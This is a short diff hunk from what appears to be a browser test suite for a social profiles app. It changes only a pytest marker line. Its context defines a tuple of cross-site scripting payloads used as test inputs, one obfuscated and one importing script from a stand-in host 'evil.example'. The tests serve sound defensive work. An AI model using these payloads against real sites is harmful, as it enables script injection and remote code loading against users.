@@ -14,7 +14,7 @@ from social.profiles.actions import edit
 from social.profiles.models import Profile
 from tests import make
 
-pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]
+pytestmark = pytest.mark.browser
 
 RUN = ("alert(1)", "confirm`1`", "window.ran=1", "top['al'+'ert'](1)", "import('//evil.example/x.js')")
 CARRIERS = (
